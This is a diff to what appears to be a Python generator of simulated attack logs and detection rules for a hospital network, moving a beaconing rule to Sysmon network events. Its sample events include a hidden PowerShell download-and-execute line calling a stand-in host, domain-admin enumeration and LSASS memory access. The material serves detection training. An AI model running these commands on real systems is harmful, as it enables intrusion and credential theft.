@@ -24,7 +24,7 @@ ANY = And(())
 RULES = {
     "macro": ("Un document lance une commande", "high", ("attack.initial-access", "attack.t1566.001"), "windows/sysmon", "1"),
     "powershell": ("PowerShell caché qui télécharge", "high", ("attack.execution", "attack.t1059.001"), "windows/sysmon", "1"),
-    "beacon": ("Appels réguliers vers une adresse nue", "medium", ("attack.command-and-control", "attack.t1071.001"), "web/proxy", ""),
+    "beacon": ("Appels réguliers vers une adresse nue", "medium", ("attack.command-and-control", "attack.t1071.001"), "windows/sysmon", "3"),
     "lsass": ("Mémoire des mots de passe lue", "critical", ("attack.credential-access", "attack.t1003.001"), "windows/sysmon", "10"),
     "survey": ("Annuaire exploré par une commande", "medium", ("attack.discovery", "attack.t1087.002"), "windows/sysmon", "1"),
     "service": ("Service installé à distance (PsExec)", "high", ("attack.lateral-movement", "attack.t1021.002"), "windows/system", "7045"),
@@ -94,7 +94,7 @@ OUT = "203.0.113.77"
 STORY = [
     ("22:41", "macro", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "CommandLine": "cmd /c start powershell"}, {"ParentImage": "*\\WINWORD.EXE", "Image": "*\\cmd.exe"}),
     ("22:42", "powershell", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell -w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')"}, {"CommandLine": "*-w hidden*"}),
-    *((f"{22 + n // 6 if n < 12 else 0}:{(45 + n * 10) % 60:02d}", "beacon", "", "c.leroy", OUT, {"url": f"http://{OUT}/p?{n}", "bytes": "120"}, {"url": f"http://{OUT}/*"}) for n in range(1)),
+    *((f"{clock}:{40:02d}", "beacon", POSTE, "VALMONT\\c.leroy", "10.20.14.31", {"Image": "C:\\Users\\Public\\svc.exe", "SourceIp": "10.20.14.31", "DestinationIp": OUT, "DestinationPort": "443", "Tour": clock}, {"DestinationIp": OUT}) for clock in ("22:44", "22:54", "23:04", "23:14", "23:24", "23:34", "23:44", "23:54", "00:04")),
     ("23:05", "survey", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net group \"Domain Admins\" /domain"}, {"CommandLine": "*domain admins*"}),
     ("23:31", "lsass", POSTE, "VALMONT\\c.leroy", "", {"SourceImage": "C:\\Users\\Public\\svc.exe", "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1410"}, {"TargetImage": "*\\lsass.exe", "GrantedAccess": "0x1410"}),
     ("00:12", "service", SECOURS, "VALMONT\\adm.martin", "10.20.14.31", {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}, {"ServiceName": "psexesvc"}),
@@ -137,7 +137,7 @@ def census() -> Census:
     for source, code, count in [
         ("windows/sysmon", "1", 812_400), ("windows/sysmon", "10", 96_120), ("windows/sysmon", "13", 1_204_000),
         ("windows/system", "7045", 31), ("windows/security", "4698", 12), ("windows/application", "0", 410),
-        ("web/proxy", "", 2_410_000), ("linux/syslog", "sudo", 640), ("hospital/vpn", "login", 1_870),
+        ("windows/sysmon", "3", 2_410_000), ("linux/syslog", "sudo", 640), ("hospital/vpn", "login", 1_870),
         ("hospital/medical", "usb", 4), ("unknown", "", 12_877),
     ]:  # fmt: skip
         census.events[EventClass(source, code)] = count
